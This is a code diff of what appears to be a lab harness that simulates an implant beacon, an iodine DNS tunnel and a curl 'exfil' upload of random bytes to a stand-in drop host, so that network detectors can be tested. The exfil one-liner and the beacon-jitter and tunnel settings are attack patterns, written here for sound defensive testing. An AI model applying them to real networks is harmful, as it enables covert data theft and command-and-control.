@@ -45,10 +45,12 @@ const between = (ctx: ScenarioContext, min: number, max: number) => min + (max -
 /**
  * The office's uplink for bulk transfers (curl --limit-rate, bytes/s). At veth speed (~60 MB/s of
  * 64 KiB segments) the live meter fell behind and the kernel dropped a third of the capture
- * (15,495 of 47,236 packets), losing the exfil upload; tc netem would be the place to shape the
- * link, but kernels without sch_netem (this machine's) have none.
+ * (15,495 of 47,236 packets), losing the exfil upload; at 20 MiB/s it still dropped 3–15% on the
+ * loaded 2-core machine, once a beacon check-in, whose missing gap pushed the cadence over the
+ * detector's bound. tc netem would be the place to shape the link, but kernels without sch_netem
+ * (this machine's) have none.
  */
-const UPLINK_RATE = '20M';
+const UPLINK_RATE = '8M';
 
 /** Beacon: sessions of the implant, the mean gap and its jitter (± share, uniform). */
 export const BEACON = { sessions: 13, gapMs: 11_000, jitter: 0.2 };
@@ -111,7 +113,7 @@ const SCENARIOS: Scenario[] = [
       // -r: only through the resolver (no raw UDP straight to iodined), as a tunnel out of an
       // office whose only way out is its DNS server would go.
       const iodine = ctx.cleanup.daemon(
-        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns, INTERNET.tunnelDomain], { ns: ctx.names.hosts.ws4, logFile: join(ctx.files.dir, 'iodine.log') }),
+        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], { ns: ctx.names.hosts.ws4, logFile: join(ctx.files.dir, 'iodine.log') }),
       );
       try {
         await waitForOutput(iodine, /Connection setup complete/, 60_000);
@@ -129,7 +131,7 @@ const SCENARIOS: Scenario[] = [
   },
   {
     name: 'beacon',
-    expected: { detector: 'beacon', sourceHost: 'ws1', source: host('ws1').ip, destination: INTERNET.c2.ip },
+    expected: { detector: 'beacon', sourceHost: 'ws1', source: host('ws1').ip, destination: INTERNET.c2.organization },
     async play(ctx) {
       for (let i = 0; i < BEACON.sessions; i++) {
         if (i > 0) await sleep(BEACON.gapMs * (1 + BEACON.jitter * (2 * ctx.random() - 1)));
@@ -139,7 +141,7 @@ const SCENARIOS: Scenario[] = [
   },
   {
     name: 'exfil',
-    expected: { detector: 'exfil', sourceHost: 'ws2', source: host('ws2').ip, destination: INTERNET.drop.ip },
+    expected: { detector: 'exfil', sourceHost: 'ws2', source: host('ws2').ip, destination: INTERNET.drop.organization },
     async play(ctx) {
       await ctx.on('ws2', ['sh', '-c', `head -c ${EXFIL_BYTES} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`], 240_000);
     },
